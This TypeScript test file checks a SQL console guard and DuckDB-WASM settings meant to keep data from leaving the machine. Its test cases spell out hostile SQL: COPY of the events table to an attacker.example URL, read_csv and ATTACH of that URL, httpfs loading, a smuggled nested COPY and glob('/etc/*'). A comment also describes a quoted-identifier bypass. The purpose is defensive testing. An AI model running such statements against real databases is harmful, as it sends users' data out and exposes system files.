// "Nothing leaves the machine" for the SQL console: no statement typed (or pasted) there may make the engine
// read a URL or a file. The guard is the first wall; the engine's own settings should be the second.

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Engine } from '../../src/core/engine.ts';
import { guardStatement } from '../../src/core/queries/console.ts';
import { ENGINES, extensionRequests } from '../helpers/engines.ts';

const URL_ = 'https://attacker.example/collect.csv';

describe('SQL console guard', () => {
  it.each([
    `SELECT * FROM read_csv('${URL_}')`,
    `SELECT * FROM read_csv_auto('${URL_}')`,
    `SELECT * FROM '${URL_}'`,
    `SELECT * FROM events JOIN '${URL_}' USING (actor)`,
    `COPY (SELECT * FROM events) TO '${URL_}'`,
    `ATTACH '${URL_}' AS x`,
    'INSTALL httpfs',
    'LOAD httpfs',
    "SET custom_extension_repository = 'https://attacker.example'",
    `SELECT * FROM events; COPY events TO '${URL_}'`,
    `SELECT * FROM query('COPY events TO ''${URL_}''')`,
    `SELECT * FROM glob('/etc/*')`,
  ])('refuses %s', (sql) => {
    expect(guardStatement(sql).ok).toBe(false);
  });

  // Gap (src/core/queries/console.ts guardStatement): a double-quoted identifier after FROM/JOIN passes, and
  // DuckDB's replacement scan then treats it as a file or URL to read (in the browser build, over XHR; only the
  // CSP's connect-src stops it, and a static host without headers gives the worker no CSP). Fix: refuse quoted
  // identifiers after FROM/JOIN that contain '/', ':' or a file extension — and see the engine setting below.
  it('refuses a URL written as a quoted identifier', () => {
    expect(guardStatement(`SELECT * FROM "${URL_}"`).ok).toBe(false);
  });
});

describe.each(ENGINES.filter((e) => e.name === 'duckdb-wasm'))('browser engine settings (%s)', ({ open }) => {
  let engine: Engine;
  beforeAll(async () => { engine = await open(); });
  afterAll(async () => { await engine.close(); });

  it('never autoloads or autoinstalls extensions, and made no request', async () => {
    const rows = await engine.query("SELECT name, value FROM duckdb_settings() WHERE name IN ('autoload_known_extensions', 'autoinstall_known_extensions') ORDER BY name");
    expect(rows).toEqual([{ name: 'autoinstall_known_extensions', value: 'false' }, { name: 'autoload_known_extensions', value: 'false' }]);
    expect(extensionRequests).toEqual([]);
  });

  // Suggestion (workers/engine/wasm.ts offlineSettings): the browser engine only receives Arrow appends and never
  // needs to read a file or URL itself, so 'SET enable_external_access = false' then 'SET lock_configuration = true'
  // close replacement scans of URLs for good. Tried on a copy: ingest and engine tests still pass on DuckDB-WASM.
  it('runs with external access disabled and the configuration locked', async () => {
    const [row] = await engine.query("SELECT current_setting('enable_external_access') AS ext, current_setting('lock_configuration') AS locked");
    expect(row).toEqual({ ext: false, locked: true });
  });
});
